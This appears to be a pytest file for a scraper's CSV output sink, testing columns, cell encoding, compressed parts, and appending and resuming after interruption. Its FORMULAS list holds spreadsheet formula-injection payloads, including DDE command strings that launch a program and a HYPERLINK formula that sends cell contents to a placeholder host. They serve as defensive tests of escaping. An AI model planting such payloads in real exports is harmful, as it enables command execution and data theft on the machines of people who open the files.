"""CSV: columns, cells, spreadsheets' formulas, and files that are appended to."""

from __future__ import annotations

import asyncio
import csv
import gzip
import tempfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from enum import Enum
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scraper import Item
from scraper.errors import ConfigError, ExtractionError
from scraper.pipelines.csv import Csv
from tests.pipelines.crawls import begin, deliver, stage
from tests.pipelines.test_file_sinks import plain


def rows(path: Path, **options: Any) -> list[list[str]]:
    """As Python's own reader has them."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True, **options))


class Review(Item):
    stars: int
    by: str | None = None


class Book(Item):
    title: str
    price: Decimal | None = None
    published: date | None = None
    tags: list[str] = []
    review: Review | None = None
    sold_out: bool = False


@dataclass
class Point:
    x: float
    y: float


async def test_columns_are_the_model_s_fields(tmp_path: Path) -> None:
    books = [
        Book(title="Ä, B", price=Decimal("51.70"), published=date(2026, 1, 2), tags=["a", "b"]),
        Book(title='"C"\nD', review=Review(stars=5), sold_out=True),
    ]
    told = await deliver(Csv("out.csv"), books, tmp_path)
    assert rows(tmp_path / "out.csv") == [
        ["title", "price", "published", "tags", "review", "sold_out"],
        ["Ä, B", "51.70", "2026-01-02", '["a","b"]', "", "false"],
        ['"C"\nD', "", "", "[]", '{"stars":5,"by":null}', "true"],
    ]
    assert (told["kind"], told["records"]) == ("csv", 2)


async def test_columns_of_dicts_and_data_classes(tmp_path: Path) -> None:
    await deliver(Csv("d.csv"), [{"b": 1, "a": 2}, {"a": 3, "b": 4}, {"a": 5}], tmp_path)
    assert (tmp_path / "d.csv").read_bytes() == b"b,a\n1,2\n4,3\n,5\n"
    await deliver(Csv("p.csv"), [Point(1, 2.5)], tmp_path)
    assert (tmp_path / "p.csv").read_bytes() == b"x,y\n1,2.5\n"


async def test_named_columns(tmp_path: Path) -> None:
    fields = ["price", "title"]
    items = [Book(title="T", price=Decimal(1)), {"title": "U"}]
    await deliver(Csv("out.csv", fields=fields), items, tmp_path)
    assert rows(tmp_path / "out.csv") == [fields, ["1", "T"], ["", "U"]]


async def test_provenance_stands_at_the_end(tmp_path: Path) -> None:
    await deliver(Csv("out.csv", provenance=["_url", "_status"]), [{"a": 1}], tmp_path)
    assert rows(tmp_path / "out.csv") == [
        ["a", "_url", "_status"],
        ["1", "https://example.com/", ""],
    ]


async def test_unknown_key_is_no_silent_cut(tmp_path: Path) -> None:
    sink = Csv("out.csv")
    await begin(sink, tmp_path)
    await stage(sink, [{"a": 1}])
    with pytest.raises(ExtractionError) as caught:
        await stage(sink, [{"a": 1, "extra": 2}])
    assert caught.value.reason == "schema"
    assert "'extra'" in caught.value.message
    await sink.publish()
    await sink.aclose()
    assert rows(tmp_path / "out.csv") == [["a"], ["1"]]


@pytest.mark.case(
    77, "another model in a CSV file", "an error at the first item that names both; nothing is cut"
)
async def test_one_file_takes_one_model(tmp_path: Path) -> None:
    sink = Csv("out.csv")
    await begin(sink, tmp_path)
    await stage(sink, [Book(title="T")])
    with pytest.raises(ConfigError, match="columns of Book, and a Review came"):
        await stage(sink, [Review(stars=1)])
    await sink.aclose()
    await deliver(Csv("{item}.csv"), [Book(title="T"), Review(stars=1)], tmp_path)
    assert rows(tmp_path / "Review.csv") == [["stars", "by"], ["1", ""]]
    assert len(rows(tmp_path / "Book.csv")) == 2


async def test_nothing_came(tmp_path: Path) -> None:
    await deliver(Csv("known.csv", fields=["a", "b"], provenance=["_url"]), [], tmp_path)
    assert (tmp_path / "known.csv").read_bytes() == b"a,b,_url\n"
    await deliver(Csv("known.csv.gz", fields=["a"]), [], tmp_path)
    assert gzip.decompress((tmp_path / "known.csv.gz").read_bytes()) == b"a\n"
    await deliver(Csv("unknown.csv"), [], tmp_path)
    assert (tmp_path / "unknown.csv").read_bytes() == b""


# ── cells


class Colour(Enum):
    RED = "red"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("text", "text"),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-5, "-5"),
        (2**70, str(2**70)),
        (1.5, "1.5"),
        (-0.1, "-0.1"),
        (float("nan"), ""),
        (float("-inf"), ""),
        (Decimal("-1.50"), "-1.50"),
        (Decimal("-1E+5"), "-1E+5"),
        (date(2026, 1, 2), "2026-01-02"),
        (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05Z"),
        (timedelta(days=-1), "-P1D"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (Colour.RED, "red"),
        (b"bytes", "bytes"),
        (b"\xff\xfe", "__4="),
        ([1, "a", None, {"b": Decimal("1.0")}], '[1,"a",null,{"b":"1.0"}]'),
        ({"k": "Ä"}, '{"k":"Ä"}'),
        ({"k": "\ud800"}, '{"k":"\ufffd"}'),
        (("x",), '["x"]'),
        ("nul \0 byte", "nul \ufffd byte"),
        ("lone \ud800", "lone \ufffd"),
        ("lines\r\nof\rtext\n", "lines\r\nof\rtext\n"),
        (' "quoted", ', ' "quoted", '),
        ("😀\u2028\x1c\x85", "😀\u2028\x1c\x85"),
    ],
)
async def test_cells(tmp_path: Path, value: Any, cell: str) -> None:
    await deliver(Csv("out.csv"), [{"a": value, "b": 1}, {"a": 2, "b": value}], tmp_path)
    assert rows(tmp_path / "out.csv") == [["a", "b"], [cell, "1"], ["2", cell]]


def test_any_row_can_be_read_back() -> None:
    text = st.text(st.characters(codec="utf-8", exclude_characters="\0"))
    row = st.fixed_dictionaries({"a": text, "b": text, "c": st.none() | st.integers() | text})

    @settings(deadline=None, max_examples=60)
    @given(items=st.lists(row, max_size=5), delimiter=st.sampled_from(",;\t|'\u00a7 "))
    def holds(items: list[dict[str, Any]], delimiter: str) -> None:
        with tempfile.TemporaryDirectory() as directory:
            root = Path(directory)
            sink = Csv("out.csv", fields=["a", "b", "c"], delimiter=delimiter, formulas="keep")
            asyncio.run(deliver(sink, items, root))
            found = rows(root / "out.csv", delimiter=delimiter)
        assert found[0] == ["a", "b", "c"]
        cells = [["" if item[n] is None else str(item[n]) for n in "abc"] for item in items]
        assert found[1:] == cells

    holds()


@pytest.mark.parametrize("value", [None, ""])
async def test_empty_row_is_a_row(tmp_path: Path, value: str | None) -> None:
    await deliver(Csv("out.csv"), [{"a": value}, {"a": "x"}], tmp_path)
    assert rows(tmp_path / "out.csv") == [["a"], [""], ["x"]]


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-A1",
    "- 5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=",
    "-",
    "+",
    "-.",
    "+1e",
    "-5 €",
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_formulas_are_text(tmp_path: Path, text: str) -> None:
    await deliver(Csv("out.csv"), [{"a": text, text: 1}], tmp_path)
    assert rows(tmp_path / "out.csv") == [["a", "'" + text], ["'" + text, "1"]]
    await deliver(Csv("kept.csv", formulas="keep"), [{"a": text, text: 1}], tmp_path)
    assert rows(tmp_path / "kept.csv") == [["a", text], [text, "1"]]


@pytest.mark.parametrize(
    "text",
    ["-5", "+1.5", "-1,234.50", "+1.234,50", "-.5", "+49301234567", "-1e-7", "+1E5", "-5%", "a=1"],
)
async def test_plain_numbers_are_no_formulas(tmp_path: Path, text: str) -> None:
    await deliver(Csv("out.csv"), [{"a": text}], tmp_path)
    assert rows(tmp_path / "out.csv") == [["a"], [text]]


async def test_formulas_in_enumerations_and_addresses(tmp_path: Path) -> None:
    class Odd(str):
        __slots__ = ()

    await deliver(Csv("out.csv"), [{"a": Odd("=1+1"), "b": b"=1+1"}], tmp_path)
    assert rows(tmp_path / "out.csv")[1] == ["'=1+1", "'=1+1"]


async def test_spellings(tmp_path: Path) -> None:
    item = {"a": "x;y", "b": None, "c": -1}
    await deliver(Csv("s.csv", delimiter=";"), [item], tmp_path)
    assert (tmp_path / "s.csv").read_bytes() == b'a;b;c\n"x;y";;-1\n'
    await deliver(Csv("q.csv", quote="all", bom=True), [item], tmp_path)
    assert (tmp_path / "q.csv").read_bytes() == b'\xef\xbb\xbf"a","b","c"\n"x;y","","-1"\n'


@pytest.mark.parametrize("delimiter", ["", ",,", '"', "\n", "\r", "\0"])
def test_delimiters_that_are_none(delimiter: str) -> None:
    with pytest.raises(ConfigError, match="delimiter"):
        Csv("out.csv", delimiter=delimiter)


# ── over kills and crawls


@pytest.mark.case(
    77,
    "a model that has changed when its job is resumed",
    "the columns stay; what has another is `schema`",
)
async def test_columns_stay_over_a_kill(tmp_path: Path) -> None:
    first = Csv("out.csv")
    await begin(first, tmp_path)
    position = await stage(first, [{"b": 1, "a": 2}])
    await first.aclose()
    second = Csv("out.csv")
    await begin(second, tmp_path, position)
    await stage(second, [{"a": 3, "b": 4}])
    with pytest.raises(ExtractionError, match="no column 'c'"):  # the model has changed meanwhile
        await stage(second, [{"a": 3, "b": 4, "c": 5}])
    await second.publish()
    await second.aclose()
    assert (tmp_path / "out.csv").read_bytes() == b"b,a\n1,2\n4,3\n"


async def test_columns_stay_over_parts_and_kills(tmp_path: Path) -> None:
    position = None
    for number in range(5):
        sink = Csv("{item}.csv.gz", records_per_file=2)
        await begin(sink, tmp_path, position)
        position = await stage(sink, [Point(number, number), Review(stars=number)])
        await sink.aclose()
    sink = Csv("{item}.csv.gz", records_per_file=2)
    await begin(sink, tmp_path, position)
    await sink.publish()
    await sink.aclose()
    for part, numbers in enumerate(([0, 1], [2, 3], [4]), start=1):
        data = gzip.decompress((tmp_path / f"Review-000{part}.csv.gz").read_bytes())
        assert data.decode() == "stars,by\n" + "".join(f"{n},\n" for n in numbers)
    assert sorted(path.name for path in tmp_path.glob("Point-*")) == [
        f"Point-000{part}.csv.gz" for part in (1, 2, 3)
    ]


async def test_first_group_that_was_not_committed_leaves_no_columns(tmp_path: Path) -> None:
    first = Csv("out.csv")
    await begin(first, tmp_path)
    await stage(first, [{"old": 1}])
    await first.aclose()
    second = Csv("out.csv")
    await begin(second, tmp_path, resumed=True)
    await stage(second, [{"new": 1}])
    await second.publish()
    await second.aclose()
    assert (tmp_path / "out.csv").read_bytes() == b"new\n1\n"


@pytest.mark.parametrize("name", ["all.csv", "all.csv.gz", "all.csv.zst"])
async def test_append_has_one_header(tmp_path: Path, name: str) -> None:
    for number in range(3):
        sink = Csv(name, "append", delimiter=";", bom=True, provenance=["_url"])
        await deliver(sink, [{"n": number, "=x": 1}], tmp_path, f"2026010{number + 1}T000000Z")
    url = "https://example.com/"
    assert plain(tmp_path / name).decode("utf-8-sig") == (
        f"n;'=x;_url\n0;1;{url}\n1;1;{url}\n2;1;{url}\n"
    )


async def test_append_to_what_another_program_wrote(tmp_path: Path) -> None:
    (tmp_path / "all.csv").write_bytes(b'"n","t"\r\n"0","a"')  # and no line end
    await deliver(Csv("all.csv", "append"), [{"n": 1, "t": "b"}], tmp_path)
    assert rows(tmp_path / "all.csv") == [["n", "t"], ["0", "a"], ["1", "b"]]


@pytest.mark.parametrize("name", ["all.csv", "{item}.csv", "all.csv.gz"])
async def test_append_under_another_header(tmp_path: Path, name: str) -> None:
    path = tmp_path / name.format(item="dict")
    await deliver(Csv(name, "append"), [{"a": 1, "b": 2}], tmp_path)
    before = path.read_bytes()
    sink = Csv(name, "append")
    await begin(sink, tmp_path, started="20270101T000000Z")
    for _ in range(2):
        with pytest.raises(ConfigError) as caught:
            await stage(sink, [{"a": 1, "c": 2}])
        assert f"{path} has the columns a, b" in caught.value.message
        assert "would append a, c" in caught.value.message
        assert 'fields = ["a", "b"]' in caught.value.hint
    await sink.set_aside()
    await sink.aclose()
    assert path.read_bytes() == before


@pytest.mark.parametrize("old", ["a,b\n", "b,a\n1,2\n", "\n", 'x\n"', '"torn'])
async def test_named_columns_are_compared_before_anything_is_fetched(
    tmp_path: Path, old: str
) -> None:
    (tmp_path / "all.csv").write_text(old)
    sink = Csv("all.csv", "append", ["b", "c"])
    with pytest.raises(ConfigError, match=r"b, c|no header"):
        await begin(sink, tmp_path)
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["all.csv"]
    assert (tmp_path / "all.csv").read_text() == old


async def test_append_goes_on_after_a_kill(tmp_path: Path) -> None:
    (tmp_path / "all.csv").write_text("n\n0\n")
    first = Csv("all.csv", "append", ["n"])
    await begin(first, tmp_path)
    position = await stage(first, [{"n": 1}])
    await stage(first, [{"n": 100}])
    await first.aclose()
    second = Csv("all.csv", "append", ["n"])
    await begin(second, tmp_path, position)
    await stage(second, [{"n": 2}])
    await second.publish()
    await second.aclose()
    assert rows(tmp_path / "all.csv") == [["n"], ["0"], ["1"], ["2"]]
